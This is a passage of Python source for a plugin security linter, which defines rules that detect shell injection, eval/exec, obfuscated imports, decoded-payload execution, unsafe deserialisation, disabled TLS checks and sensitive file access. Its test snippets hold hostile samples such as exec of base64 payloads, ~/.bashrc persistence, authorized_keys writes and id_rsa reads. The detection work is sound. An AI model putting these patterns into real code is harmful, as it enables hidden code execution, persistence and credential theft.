"""Security rules on the syntax tree (category ``security``, MB310-MB350).

Every rule matches on resolved qualified names (``import subprocess as sp;
sp.run`` is ``subprocess.run``; ``getattr(__import__('o' + 's'), 'system')`` is
``os.system``), never on source text: words in strings, comments and
docstrings, and a plugin's own method called ``exec``, are not flagged. The
dangerous names themselves are data (``rules/security/permissions.json``).
"""

from __future__ import annotations

from collections.abc import Iterator

import libcst as cst

from mbcheck.checks.security.collect import (
    DYNAMIC_IMPORTERS,
    argument,
    classify_call,
    first_argument,
    fold_bytes,
    fold_string,
    is_constant,
    is_false,
    is_plain_literal,
    is_true,
    keyword_value,
    observe_assignment,
    observe_function,
    own_module_name,
    plugin_internal,
    resolve,
    state,
    static_path,
)
from mbcheck.checks.security.patterns import (
    StaticPath,
    classify_path,
    find_secret,
    is_secret_file,
    is_secret_name,
    looks_random,
    may_hold_secret,
)
from mbcheck.checks.security.tables import tables
from mbcheck.model import Category, Confidence, Severity
from mbcheck.pyfile.names import literal_string
from mbcheck.pyfile.traverse import FileContext, SourceRule
from mbcheck.rules.base import Invalid, Valid

_SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "fish", "csh", "tcsh", "cmd", "cmd.exe", "powershell",
                     "powershell.exe", "pwsh"})
#: calls whose first argument is an argument list (``subprocess.run([...])``)
_EXEC_STARTERS = frozenset({"subprocess.run", "subprocess.Popen", "subprocess.call", "subprocess.check_call",
                            "subprocess.check_output"})
_EXEC_SINKS = {"builtins.eval": "eval", "builtins.exec": "exec", "builtins.compile": "compile"}
#: calls that turn data into running code (sinks of decoded payloads)
_PAYLOAD_SINKS = frozenset({*_EXEC_SINKS, "types.FunctionType", "types.CodeType", "types.LambdaType"})


def _short(name: str) -> str:
    return name.removeprefix("builtins.")


def _walk(node: cst.CSTNode, limit: int = 2000) -> Iterator[cst.CSTNode]:
    """The nodes of a (small) expression, outermost first, at most ``limit``."""
    pending: list[cst.CSTNode] = [node]
    count = 0
    while pending and count < limit:
        current = pending.pop()
        count += 1
        yield current
        if isinstance(current, (cst.Lambda, cst.FunctionDef)):
            continue
        pending.extend(reversed(current.children))


# --------------------------------------------------------------------------
# Decoded payloads (shared by MB311, MB313, MB314)


def _is_decoder(ctx: FileContext, call: cst.Call) -> str | None:
    name = resolve(ctx, call.func)
    if name is not None and name in tables().decoders:
        return name
    if name in tables().deserialisers:
        return name
    return None


def _decoded_by(ctx: FileContext, expr: cst.BaseExpression) -> str | None:
    """The decoder whose output an expression carries, or ``obfuscated`` for an assembled string."""
    tainted = state(ctx).tainted
    for node in _walk(expr):
        if isinstance(node, cst.Call):
            decoder = _is_decoder(ctx, node)
            if decoder is not None:
                return decoder
        elif isinstance(node, cst.Name) and node.value in tainted:
            return tainted[node.value]
    if not is_plain_literal(expr) and fold_string(ctx, expr) is not None and not isinstance(expr, cst.Name):
        return "string assembly"
    return None


def _payload_argument(node: cst.Call, name: str) -> cst.BaseExpression | None:
    if name in _EXEC_SINKS:
        return first_argument(node, "source", "expression", "object")
    return first_argument(node, "code", "data", "s", "file", "stream")


# --------------------------------------------------------------------------


class ShellCommand(SourceRule):
    """Runs a shell command line built at run time.

    Covers `os.system`, `os.popen`, `subprocess.getoutput`, `asyncio.create_subprocess_shell`
    and `subprocess.run/Popen/call/check_call/check_output(..., shell=True)` whose command is
    not a constant, and a shell started explicitly with a computed script
    (`subprocess.run(["sh", "-c", cmd])`, `asyncio.create_subprocess_exec("bash", "-c", cmd)`).
    Commands assembled only from `shlex.quote(...)` pieces are a warning.
    Why: the shell interprets quotes, `;`, `$(...)` and globs in the string; any
    piece that comes from a file name, a config value or user input can run an
    arbitrary command with the user's rights (command injection).
    Instead: pass an argument list without a shell: `subprocess.run(["git", "log", path], check=True)`.
    """

    code = "MB310"
    name = "shell-command-from-data"
    category = Category.SECURITY
    severity = Severity.ERROR
    confidence = Confidence.HIGH
    VALID = (
        Valid("import subprocess\n\ndef log(path):\n    subprocess.run(['git', 'log', path], check=True)\n"),
        Valid("import os\nos.system('clear')\n"),
        Valid("import subprocess\nsubprocess.run('ls -l', shell=True)\n"),
    )
    INVALID = (
        Invalid("import subprocess as sp\n\ndef run(cmd):\n    sp.Popen(cmd, shell=True)\n", line=4),
        Invalid("from os import system\n\ndef greet(name):\n    system('echo ' + name)\n", line=4),
        Invalid("def f(x):\n    getattr(__import__('o' + 's'), 'system')(f'ls {x}')\n", line=2),
        Invalid("import subprocess\n\ndef run(script):\n    subprocess.run(['/bin/sh', '-c', script], check=True)\n",
                line=4),
    )

    def visit_Call(self, node: cst.Call) -> None:
        name = resolve(self.ctx, node.func)
        if name is None:
            return
        mode = tables().shell_calls.get(name)
        if mode is None:
            self._explicit_shell(node, name)
            return
        confidence = Confidence.HIGH
        if mode == "keyword":
            shell = keyword_value(node, "shell")
            if shell is None or is_false(shell):
                self._explicit_shell(node, name)
                return
            if not is_true(shell):
                confidence = Confidence.MEDIUM
        command = first_argument(node, "args", "cmd", "command")
        if command is None or is_constant(self.ctx, command):
            return
        dynamic = list(self._dynamic_parts(command))
        quoted = bool(dynamic) and all(
            isinstance(part, cst.Call) and resolve(self.ctx, part.func) in ("shlex.quote", "shlex.join")
            for part in dynamic
        )
        if quoted:
            self.report(node, f"`{_short(name)}` runs a shell command assembled at run time (its pieces are "
                        "shlex-quoted); prefer an argument list without a shell",
                        severity=Severity.WARNING, confidence=Confidence.MEDIUM)
            return
        self.report(node, f"`{_short(name)}` runs a shell command built at run time: command injection; "
                    "pass an argument list without shell=True", confidence=confidence)

    def _explicit_shell(self, node: cst.Call, name: str) -> None:
        """``subprocess.run(["sh", "-c", script])``: a shell started by hand."""
        if name == "asyncio.create_subprocess_exec":
            argv = [a.value for a in node.args if a.keyword is None and not a.star]
        elif name in tables().shell_calls or name in _EXEC_STARTERS:
            command = first_argument(node, "args")
            if not isinstance(command, (cst.List, cst.Tuple)):
                return
            argv = [e.value for e in command.elements if isinstance(e, cst.Element)]
        else:
            return
        if len(argv) < 3:
            return
        program = fold_string(self.ctx, argv[0]) or ""
        flag = fold_string(self.ctx, argv[1]) or ""
        if program.rsplit("/", 1)[-1].rsplit("\\", 1)[-1].lower() not in _SHELLS:
            return
        if flag.lower() not in ("-c", "/c", "-command", "-lc"):
            return
        if is_constant(self.ctx, argv[2]):
            return
        self.report(node, f"`{_short(name)}` starts `{program} {flag}` with a script built at run time: "
                    "command injection; run the program directly with an argument list")

    def _dynamic_parts(self, expr: cst.BaseExpression) -> Iterator[cst.BaseExpression]:
        if is_constant(self.ctx, expr):
            return
        if isinstance(expr, cst.BinaryOperation) and isinstance(expr.operator, (cst.Add, cst.Modulo)):
            yield from self._dynamic_parts(expr.left)
            right = expr.right
            if isinstance(expr.operator, cst.Modulo) and isinstance(right, cst.Tuple):
                for element in right.elements:
                    yield from self._dynamic_parts(element.value)
            else:
                yield from self._dynamic_parts(right)
        elif isinstance(expr, cst.FormattedString):
            for part in expr.parts:
                if isinstance(part, cst.FormattedStringExpression):
                    yield from self._dynamic_parts(part.expression)
        elif isinstance(expr, (cst.List, cst.Tuple)):
            for element in expr.elements:
                yield from self._dynamic_parts(element.value)
        elif (
            isinstance(expr, cst.Call)
            and isinstance(expr.func, cst.Attribute)
            and expr.func.attr.value == "format"
            and is_constant(self.ctx, expr.func.value)
        ):
            for arg in expr.args:
                yield from self._dynamic_parts(arg.value)
        else:
            yield expr


class DynamicCodeExecution(SourceRule):
    """Runs `eval`, `exec` or `compile` on input that is not a constant.

    Why: whatever reaches the call runs with the user's rights inside the host
    process: a config value, a file or a network reply becomes code. A plugin
    almost never needs it, and it hides what the plugin does from review.
    Instead: parse data with `json`, `ast.literal_eval` or a real parser; look
    up functions in a dict instead of building code strings.
    """

    code = "MB311"
    name = "dynamic-code-execution"
    category = Category.SECURITY
    severity = Severity.ERROR
    confidence = Confidence.HIGH
    VALID = (
        Valid("import ast\n\ndef parse(text):\n    return ast.literal_eval(text)\n"),
        Valid("class Runner:\n    def exec(self, job):\n        return job\n\nRunner().exec('eval')\n"),
        Valid("RESULT = eval('1 + 2')\n"),
    )
    INVALID = (
        Invalid("def calc(expression):\n    return eval(expression)\n", line=2),
        Invalid("ev = eval\n\ndef run(src):\n    ev(src)\n", line=4),
        Invalid("import builtins\n\ndef run(src):\n    getattr(builtins, 'exec')(src)\n", line=4),
    )

    def visit_Call(self, node: cst.Call) -> None:
        name = resolve(self.ctx, node.func)
        if name not in _EXEC_SINKS:
            return
        arg = _payload_argument(node, name)
        if arg is None or is_constant(self.ctx, arg) or _decoded_by(self.ctx, arg) is not None:
            return
        if isinstance(arg, cst.Call) and resolve(self.ctx, arg.func) in _EXEC_SINKS:
            return  # exec(compile(src, ...)): reported once, at the inner call
        what = _EXEC_SINKS[name]
        severity = Severity.WARNING if what == "compile" else None
        self.report(node, f"`{what}` runs code that is not a constant: anything that reaches it runs "
                    "inside the host", severity=severity)


class ComputedImport(SourceRule):
    """Imports a module, or reaches a builtin or module attribute, through a computed name.

    Covers `__import__(name)`, `importlib.import_module(name)` and `getattr(<module or
    builtins>, name)` / `__builtins__[name]` where the name is not a literal. A name
    assembled from constant pieces (`'o' + 's'`, `'metsys'[::-1]`) is obfuscation
    (an error); a computed name of one of the plugin's own modules
    (`import_module(f'.{name}', __package__)`) is not reported.
    Why: a computed name hides which module or function runs, from review and from
    mbcheck; spelling `os` as `'o' + 's'` has no purpose but hiding it.
    Instead: import what you use with an `import` statement; dispatch with a dict of
    functions.
    """

    code = "MB312"
    name = "computed-import"
    category = Category.SECURITY
    severity = Severity.WARNING
    confidence = Confidence.MEDIUM
    VALID = (
        Valid("import importlib\nyaml = importlib.import_module('yaml')\n"),
        Valid("import importlib\n\ndef load(name):\n    return importlib.import_module(f'.{name}', __package__)\n"),
        Valid("import logging\n\ndef level(name):\n    return getattr(logging, name.upper())\n"),
    )
    INVALID = (
        Invalid("def load(name):\n    return __import__(name)\n", line=2),
        Invalid("mod = __import__('o' + 's')\n", line=1),
        Invalid("import builtins\n\ndef call(name, arg):\n    return getattr(builtins, name)(arg)\n", line=4),
        Invalid("def f():\n    return __builtins__['ex' + 'ec']\n", line=2),
    )

    def visit_Call(self, node: cst.Call) -> None:
        name = resolve(self.ctx, node.func)
        if name in DYNAMIC_IMPORTERS and node.args:
            self._import(node, name, node.args[0].value)
        elif name == "builtins.getattr" and len(node.args) >= 2:
            self._getattr(node, node.args[0].value, node.args[1].value)

    def visit_Subscript(self, node: cst.Subscript) -> None:
        if len(node.slice) != 1 or not isinstance(node.slice[0].slice, cst.Index):
            return
        if resolve(self.ctx, node.value) not in ("builtins", "builtins.__dict__"):
            return
        self._getattr(node, node.value, node.slice[0].slice.value)

    def _import(self, node: cst.Call, name: str, arg: cst.BaseExpression) -> None:
        if is_plain_literal(arg):
            return
        folded = fold_string(self.ctx, arg)
        if folded is not None:
            self.report(node, f"`{_short(name)}` imports `{folded}` through an assembled string: "
                        "obfuscation", severity=Severity.ERROR, confidence=Confidence.HIGH)
            return
        if own_module_name(self.ctx, node, arg):
            return
        self.report(node, f"`{_short(name)}` imports a module whose name is computed at run time")

    def _getattr(self, node: cst.CSTNode, base_expr: cst.BaseExpression, attr: cst.BaseExpression) -> None:
        if is_plain_literal(attr):
            return
        base = resolve(self.ctx, base_expr)
        if base is None or plugin_internal(self.ctx, base):
            return
        folded = fold_string(self.ctx, attr)
        top = base.split(".", 1)[0]
        if folded is not None:
            self.report(node, f"reaches `{_short(base)}.{folded}` through an assembled string: obfuscation",
                        severity=Severity.ERROR, confidence=Confidence.HIGH)
        elif base in ("builtins", "builtins.__dict__"):
            self.report(node, "looks up a builtin by a computed name (any of eval, exec, __import__)",
                        severity=Severity.ERROR, confidence=Confidence.HIGH)
        elif top in tables().sensitive_modules:
            self.report(node, f"looks up an attribute of `{base}` by a computed name")


class DecodedCodeExecution(SourceRule):
    """Runs or unpickles data that was decoded, decompressed or assembled first.

    `exec(base64.b64decode(...))`, `exec(zlib.decompress(...))`, `eval(codecs.decode(s,
    'rot13'))`, `exec(marshal.loads(...))`, `pickle.loads(base64.b64decode(...))`,
    `exec(''.join(chr(c) for c in [...]))`, also through a variable holding the
    decoded data.
    Why: this is how malware hides a payload from review: the code that runs is
    not in the source. No legitimate plugin needs it.
    Instead: ship the code as source; ship data as JSON.
    """

    code = "MB313"
    name = "decoded-code-execution"
    category = Category.SECURITY
    severity = Severity.ERROR
    confidence = Confidence.HIGH
    VALID = (
        Valid("import base64\n\ndef avatar(data):\n    return base64.b64decode(data)\n"),
        Valid("import json, zlib\n\ndef load(blob):\n    return json.loads(zlib.decompress(blob))\n"),
    )
    INVALID = (
        Invalid("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", line=2),
        Invalid("import zlib as z\npayload = z.decompress(b'x')\n\ndef go():\n    exec(payload)\n", line=5),
        Invalid("import marshal, zlib\nexec(marshal.loads(zlib.decompress(b'x')))\n", line=2),
        Invalid("exec(''.join(chr(c) for c in [112, 114, 105, 110, 116]))\n", line=1),
        Invalid("import codecs\neval(codecs.decode('cevag(1)', 'rot13'))\n", line=2),
    )

    def __init__(self, ctx: FileContext) -> None:
        super().__init__(ctx)
        self._covered: set[int] = set()

    # -- names holding decoded data (``payload = zlib.decompress(...)``) ----------
    # A statement that calls a decoder, or uses a name already holding decoded
    # data, taints the names it assigns; any other assignment clears them. The
    # statement is marked while its children are visited, then judged on leave.

    def visit_Name(self, node: cst.Name) -> None:
        st = state(self.ctx)
        if node.value in st.tainted and self.ctx.statement is not None:
            st.decoder_statements[id(self.ctx.statement)] = st.tainted[node.value]

    def leave_Assign(self, original_node: cst.Assign) -> None:
        self._assigned([t.target for t in original_node.targets])

    def leave_AnnAssign(self, original_node: cst.AnnAssign) -> None:
        if original_node.value is not None:
            self._assigned([original_node.target])

    def _assigned(self, targets: list[cst.BaseExpression]) -> None:
        st = state(self.ctx)
        statement = self.ctx.statement
        decoder = st.decoder_statements.get(id(statement)) if statement is not None else None
        for target in targets:
            if not isinstance(target, cst.Name):
                continue
            if decoder is not None:
                st.tainted[target.value] = decoder
            else:
                st.tainted.pop(target.value, None)

    def visit_Call(self, node: cst.Call) -> None:
        decoding = _is_decoder(self.ctx, node)
        if decoding is not None and self.ctx.statement is not None:
            state(self.ctx).decoder_statements[id(self.ctx.statement)] = decoding
        if id(node) in self._covered:
            return
        name = resolve(self.ctx, node.func)
        if name is None:
            return
        if name not in _PAYLOAD_SINKS and name not in tables().deserialisers:
            return
        arg = _payload_argument(node, name)
        if arg is None:
            return
        if name in tables().deserialisers and _is_decoder(self.ctx, node) and not _decoded_by(self.ctx, arg):
            return
        decoder = _decoded_by(self.ctx, arg)
        if decoder is None:
            return
        for inner in _walk(arg):
            if isinstance(inner, cst.Call):
                self._covered.add(id(inner))
        literal = fold_bytes(self.ctx, arg) is not None or fold_string(self.ctx, arg) is not None
        hidden = "a payload hidden in the source" if literal else "decoded data"
        self.report(node, f"`{_short(name)}` runs {hidden} (via `{_short(decoder)}`): obfuscated code")


class UnsafeDeserialisation(SourceRule):
    """Deserialises with a loader that can construct arbitrary objects.

    `pickle`/`dill`/`cloudpickle`/`joblib` loading, `marshal.load(s)`, `shelve.open`,
    `pandas.read_pickle`, `jsonpickle.decode`, and `yaml.load` / `yaml.load_all` without
    a safe loader (`yaml.unsafe_load`, `yaml.full_load` too).
    Why: loading such data runs code chosen by whoever wrote the file: a cache
    file, a download or a shared config becomes a way into the user's account.
    Instead: store data as JSON (or `yaml.safe_load`); if you must cache objects,
    sign the file with `hmac` and verify before loading.
    """

    code = "MB314"
    name = "unsafe-deserialisation"
    category = Category.SECURITY
    severity = Severity.WARNING
    confidence = Confidence.HIGH
    VALID = (
        Valid("import yaml\n\ndef read(text):\n    return yaml.safe_load(text)\n"),
        Valid("import yaml\n\ndef read(text):\n    return yaml.load(text, Loader=yaml.SafeLoader)\n"),
        Valid("import json\n\ndef read(text):\n    return json.loads(text)\n"),
    )
    INVALID = (
        Invalid("import pickle\n\ndef read(blob):\n    return pickle.loads(blob)\n", line=4),
        Invalid("from yaml import load\n\ndef read(text):\n    return load(text)\n", line=4),
        Invalid("import yaml\n\ndef read(text):\n    return yaml.load(text, Loader=yaml.Loader)\n", line=4),
    )

    def visit_Call(self, node: cst.Call) -> None:
        name = resolve(self.ctx, node.func)
        if name is None or name not in tables().deserialisers:
            return
        condition = tables().conditions.get(name)
        if condition is not None and condition.kind == "argument-not-in":
            status, value = argument(node, condition.position, condition.keyword)
            if status == "missing" and not condition.when_missing:
                return
            if status == "given" and value is not None and resolve(self.ctx, value) in condition.safe_values:
                return
            if status == "unknown":
                return
        arg = _payload_argument(node, name)
        if arg is not None and _decoded_by(self.ctx, arg) is not None:
            return  # MB313 reports it as a hidden payload
        confidence = Confidence.MEDIUM if name.startswith(("shelve.", "joblib.", "pandas.")) else None
        self.report(node, f"`{name}` can run arbitrary code from the data it loads", confidence=confidence)


class TlsVerificationDisabled(SourceRule):
    """Turns off TLS certificate or host name verification.

    `verify=False` (requests, httpx), `ssl=False` (aiohttp), `cert_reqs='CERT_NONE'`,
    `check_hostname=False`, `ssl.CERT_NONE`, `ssl._create_unverified_context`, and
    replacing `ssl._create_default_https_context` for the whole process.
    Why: without verification anyone on the network path can read and change
    the traffic (credentials, downloaded code); a plugin that changes the
    default context does it for the host and every other plugin too.
    Instead: keep verification on; for a private CA pass its bundle:
    `requests.get(url, verify="/path/ca.pem", timeout=10)`.
    """

    code = "MB315"
    name = "tls-verification-disabled"
    category = Category.SECURITY
    severity = Severity.ERROR
    confidence = Confidence.HIGH
    VALID = (
        Valid("import requests\n\ndef get(url):\n    return requests.get(url, timeout=10)\n"),
        Valid("def check(data, verify=False):\n    return data\n\ncheck({}, verify=False)\n"),
    )
    INVALID = (
        Invalid("import requests\n\ndef get(url):\n    return requests.get(url, verify=False, timeout=5)\n", line=4),
        Invalid("import ssl\nssl._create_default_https_context = ssl._create_unverified_context\n", line=2),
        Invalid("import ssl\n\ndef ctx():\n    c = ssl.create_default_context()\n    c.check_hostname = False\n"
                "    c.verify_mode = ssl.CERT_NONE\n    return c\n", line=5),
    )

    def __init__(self, ctx: FileContext) -> None:
        super().__init__(ctx)
        self._skip: set[int] = set()
        self._imports: set[str] | None = None
        data = tables()
        self._keywords = [p for p in data.tls_patterns if p.kind == "keyword"]
        self._keyword_names = {p.keyword for p in self._keywords}
        self._attributes = {p.attribute: p for p in data.tls_patterns if p.kind == "attribute-assignment"}
        self._names = {p.name: p for p in data.tls_patterns if p.kind in ("call", "name")}
        #: the last part of every tabled name: a reference ending otherwise cannot match
        self._last_parts = {name.rsplit(".", 1)[-1] for name in self._names}
        self._network_tops = {name.split(".", 1)[0] for name in data.network_modules}

    def _imported(self) -> set[str]:
        if self._imports is None:
            self._imports = _imported_tops(self.ctx.module)
        return self._imports

    def visit_Call(self, node: cst.Call) -> None:
        name = resolve(self.ctx, node.func)
        self._skip.add(id(node.func))
        if name in self._names:
            self.report(node, f"`{name}`: {self._names[name].description}")
            return
        passed = {arg.keyword.value for arg in node.args if arg.keyword is not None}
        if not passed & self._keyword_names:
            return
        for pattern in self._keywords:
            value = keyword_value(node, pattern.keyword)
            if value is None or not self._matches(value, pattern.value):
                continue
            if pattern.requires_import and pattern.requires_import.split(".", 1)[0] not in self._imported():
                continue
            confidence = None
            if name is not None:
                if name.split(".", 1)[0] not in self._network_tops | {"ssl"}:
                    continue
            elif not (self._imported() & (self._network_tops | {"ssl"})):
                continue
            else:
                confidence = Confidence.MEDIUM
            self.report(node, f"`{pattern.keyword}={literal_string(value) or _expr_text(value)}`: "
                        f"{pattern.description}", confidence=confidence)
            return

    @staticmethod
    def _matches(value: cst.BaseExpression, expected: bool | str | None) -> bool:
        if expected is False:
            return isinstance(value, cst.Name) and value.value == "False"
        if isinstance(expected, str):
            return literal_string(value) == expected
        return False

    def visit_Assign(self, node: cst.Assign) -> None:
        for target in node.targets:
            self._target(target.target, node.value)

    def visit_AnnAssign(self, node: cst.AnnAssign) -> None:
        if node.value is not None:
            self._target(node.target, node.value)

    def _target(self, target: cst.BaseExpression, value: cst.BaseExpression) -> None:
        if not isinstance(target, cst.Attribute):
            return
        self._skip.add(id(target))
        if resolve(self.ctx, target) == "ssl._create_default_https_context":
            self.report(target, "replaces the default HTTPS context for the whole process (the host and "
                        "every plugin)")
            return
        pattern = self._attributes.get(target.attr.value)
        if pattern is not None and self._matches(value, pattern.value):
            self.report(target, f"`.{pattern.attribute} = False`: {pattern.description}")

    def visit_Attribute(self, node: cst.Attribute) -> None:
        self._skip.add(id(node.value))
        if id(node) not in self._skip:
            self._reference(node)

    def visit_Name(self, node: cst.Name) -> None:
        if id(node) not in self._skip:
            self._reference(node)

    def _reference(self, node: cst.Name | cst.Attribute) -> None:
        if isinstance(node, cst.Name) and node.value not in self._last_parts:
            return
        if isinstance(node, cst.Attribute) and node.attr.value not in self._last_parts:
            return
        name = resolve(self.ctx, node)
        if name in self._names:
            self.report(node, f"`{name}`: {self._names[name].description}")


def _expr_text(node: cst.BaseExpression) -> str:
    return cst.Module([]).code_for_node(node)


def _imported_tops(module: cst.Module) -> set[str]:
    """Top-level names of every module a file imports (any depth of statement nesting)."""
    found: set[str] = set()
    pending: list[cst.CSTNode] = list(module.body)
    while pending:
        node = pending.pop()
        if isinstance(node, cst.SimpleStatementLine):
            for small in node.body:
                if isinstance(small, cst.Import):
                    for alias in small.names:
                        name = cst.Module([]).code_for_node(alias.name)
                        found.add(name.split(".", 1)[0])
                elif isinstance(small, cst.ImportFrom) and not small.relative and small.module is not None:
                    found.add(cst.Module([]).code_for_node(small.module).split(".", 1)[0])
        elif isinstance(node, cst.BaseCompoundStatement):
            pending.extend(c for c in node.children if isinstance(c, (cst.BaseSuite, cst.BaseCompoundStatement,
                                                                       cst.Else, cst.ExceptHandler, cst.Finally)))
        elif isinstance(node, (cst.IndentedBlock, cst.Else, cst.ExceptHandler, cst.Finally)):
            pending.extend(node.children)
    return found


class NetworkCallWithoutTimeout(SourceRule):
    """Makes a network call that can wait forever (no timeout, or `timeout=None`).

    Covers `requests.*`, `urllib.request.urlopen`, `http.client` connections,
    `socket.create_connection`, `smtplib`, `ftplib`, `imaplib`, `poplib`, `telnetlib`;
    `httpx` only with an explicit `timeout=None` (it defaults to 5 seconds).
    Why: a server that accepts the connection and never answers hangs the plugin,
    and with it the host's command line, with no way out but killing it.
    Instead: pass a timeout: `requests.get(url, timeout=10)`, `urlopen(url, timeout=10)`.
    """

    code = "MB316"
    name = "network-call-without-timeout"
    category = Category.SECURITY
    severity = Severity.WARNING
    confidence = Confidence.HIGH
    VALID = (
        Valid("import requests\n\ndef get(url):\n    return requests.get(url, timeout=10)\n"),
        Valid("import httpx\n\ndef get(url):\n    return httpx.get(url)\n"),
        Valid("from urllib.request import urlopen\n\ndef get(url):\n    return urlopen(url, None, 5)\n"),
    )
    INVALID = (
        Invalid("import requests as r\n\ndef get(url):\n    return r.post(url, json={})\n", line=4),
        Invalid("from urllib.request import urlopen\n\ndef get(url):\n    return urlopen(url)\n", line=4),
        Invalid("import httpx\n\ndef get(url):\n    return httpx.get(url, timeout=None)\n", line=4),
    )

    def visit_Call(self, node: cst.Call) -> None:
        name = resolve(self.ctx, node.func)
        if name is None:
            return
        spec = tables().timeout_calls.get(name)
        if spec is None:
            return
        status, value = argument(node, spec.position, spec.keyword)
        if status == "unknown":
            return
        if status == "given":
            if isinstance(value, cst.Name) and value.value == "None":
                self.report(node, f"`{name}(..., {spec.keyword}=None)` waits forever for a server that does not answer")
            return
        if spec.default_seconds is not None:
            return
        self.report(node, f"`{name}` without a timeout waits forever for a server that does not answer; "
                    f"pass `{spec.keyword}=`")


class InsecureTempFile(SourceRule):
    """Uses `tempfile.mktemp`, which returns a name without creating the file.

    Why: between the call and the file's creation another process can create
    the same path (often a symbolic link), so the plugin writes where an
    attacker chose.
    Instead: `tempfile.NamedTemporaryFile(delete=False)`, `tempfile.mkstemp()` or
    `tempfile.TemporaryDirectory()`.
    """

    code = "MB317"
    name = "insecure-temp-file"
    category = Category.SECURITY
    severity = Severity.WARNING
    confidence = Confidence.HIGH
    VALID = (Valid("import tempfile\n\ndef scratch():\n    return tempfile.mkstemp(suffix='.txt')\n"),)
    INVALID = (
        Invalid("import tempfile\n\ndef scratch():\n    return tempfile.mktemp()\n", line=4),
        Invalid("from tempfile import mktemp as mk\n\ndef scratch():\n    return mk('.txt')\n", line=4),
    )

    def visit_Call(self, node: cst.Call) -> None:
        if resolve(self.ctx, node.func) == "tempfile.mktemp":
            self.report(node, "`tempfile.mktemp` returns a path another process can create first; "
                        "use `tempfile.mkstemp` or `NamedTemporaryFile`")


# --------------------------------------------------------------------------
# Sensitive paths (MB318 writes, MB319 reads)

_COPIES = frozenset({"shutil.copy", "shutil.copy2", "shutil.copyfile", "shutil.copytree", "shutil.copymode",
                     "shutil.copystat"})
_MOVES = frozenset({"shutil.move", "os.rename", "os.renames", "os.replace"})
_DESTINATION_ONLY = frozenset({"os.link", "os.symlink"})
_READ_METHODS = frozenset({"read_text", "read_bytes"})
_PATH_ARGUMENT_NAMES = ("file", "filename", "path", "name", "fileobj")


def path_accesses(ctx: FileContext, node: cst.Call) -> list[tuple[cst.BaseExpression, str]]:
    """The path arguments of a file system call, each with ``write`` or ``read``."""
    data = tables()
    name = resolve(ctx, node.func)
    out: list[tuple[cst.BaseExpression, str]] = []
    positional = [a.value for a in node.args if a.keyword is None and not a.star]
    if name is not None:
        spec = data.write_methods.get(name)
        if spec is not None:
            target = first_argument(node, *_PATH_ARGUMENT_NAMES)
            if target is None:
                return out
            uses = classify_call(ctx, node, name)
            out.append((target, "write" if uses else "read"))
            return out
        if name in _COPIES:
            if positional:
                out.append((positional[0], "read"))
            if len(positional) > 1:
                out.append((positional[1], "write"))
            return out
        if name in _MOVES:
            out.extend((p, "write") for p in positional[:2])
            return out
        if name in _DESTINATION_ONLY:
            if len(positional) > 1:
                out.append((positional[1], "write"))
            return out
        if data.calls.get(name) == "fs-write" and positional and name.split(".", 1)[0] in ("os", "shutil"):
            out.append((positional[0], "write"))
            return out
    func = node.func
    if isinstance(func, cst.Attribute) and (name is None or name.startswith("pathlib.")):
        method = func.attr.value
        receiver = func.value
        if method in _READ_METHODS:
            out.append((receiver, "read"))
        elif method == "open" or method in data.path_methods:
            uses = classify_call(ctx, node, None)
            if uses:
                out.append((receiver, "write"))
            elif method == "open":
                out.append((receiver, "read"))
    return out


class _PathRule(SourceRule):
    def visit_Assign(self, node: cst.Assign) -> None:
        observe_assignment(self.ctx, node)

    def visit_AnnAssign(self, node: cst.AnnAssign) -> None:
        observe_assignment(self.ctx, node)

    def visit_FunctionDef(self, node: cst.FunctionDef) -> None:
        observe_function(self.ctx, node)

    def accesses(self, node: cst.Call) -> Iterator[tuple[StaticPath, str]]:
        for expr, access in path_accesses(self.ctx, node):
            path = static_path(self.ctx, expr)
            if path is not None:
                yield path, access


class SensitivePathWrite(_PathRule):
    """Writes to a shell start-up file, an SSH or credential file, or a system path.

    The path must be known statically: `Path.home() / '.bashrc'`,
    `os.path.expanduser('~/.ssh/authorized_keys')`, `open('/etc/hosts', 'a')`, also
    through a variable or a `self.` attribute holding it. Writing, appending,
    copying or moving onto, linking, deleting or changing permissions all count.
    Why: a line added to `~/.bashrc` runs in every new shell (persistence); a key
    added to `authorized_keys` opens the account to someone else; system paths
    belong to the operating system. A plugin has no business there.
    Instead: keep the plugin's files in its own data directory (e.g. from
    `platformdirs.user_data_dir`), and tell the user what to change themselves.
    """

    code = "MB318"
    name = "sensitive-path-write"
    category = Category.SECURITY
    severity = Severity.ERROR
    confidence = Confidence.HIGH
    VALID = (
        Valid("from pathlib import Path\n\ndef save(text):\n    (Path.home() / '.cache' / 'hello' / 'last.txt')"
              ".write_text(text)\n"),
        Valid("def show():\n    with open('/etc/os-release') as f:\n        return f.read()\n"),
        Valid("def save(text):\n    with open('~/.bashrc', 'a') as f:\n        f.write(text)\n"),
    )
    INVALID = (
        Invalid("import os\n\ndef persist(line):\n    with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n"
                "        f.write(line)\n", line=4),
        Invalid("from pathlib import Path\nKEYS = Path.home() / '.ssh' / 'authorized_keys'\n\ndef add(key):\n"
                "    KEYS.write_text(key)\n", line=5),
        Invalid("import shutil\n\ndef install(src):\n    shutil.copy(src, '/usr/local/bin/helper')\n", line=4),
    )

    def visit_Call(self, node: cst.Call) -> None:
        for path, access in self.accesses(node):
            if access != "write":
                continue
            found = classify_path(path)
            if found is None:
                continue
            what = {"system": "a system path", "shell-startup": "a shell start-up file",
                    "credentials": "an SSH or credential file"}[found.kind]
            self.report(node, f"writes to {what}: `{path.display()}`")
            return


class CredentialFileRead(_PathRule):
    """Reads a private key or credential file of the user (`~/.ssh/id_*`, `~/.aws/credentials`, ...).

    Reads by `open`, `Path.read_text/read_bytes/open` and copies (`shutil.copy`) of a
    statically known path. `~/.ssh/known_hosts`, `~/.ssh/config`, public keys and
    tool configuration without secrets (`~/.gitconfig`, `~/.aws/config`) are not
    reported.
    Why: reading the user's keys and tokens is the first half of stealing them; a
    plugin that needs a credential should be given one, not take it.
    Instead: ask for the credential in the plugin's configuration or through an
    environment variable the user sets, or use the tool's own library (which reads
    its own files).
    """

    code = "MB319"
    name = "credential-file-read"
    category = Category.SECURITY
    severity = Severity.WARNING
    confidence = Confidence.MEDIUM
    VALID = (
        Valid("from pathlib import Path\n\ndef hosts():\n    return (Path.home() / '.ssh' / 'known_hosts').read_text()\n"),
        Valid("import os\n\ndef token():\n    return os.environ.get('GITHUB_TOKEN')\n"),
    )
    INVALID = (
        Invalid("from pathlib import Path\n\ndef key():\n    return (Path.home() / '.ssh' / 'id_rsa').read_text()\n",
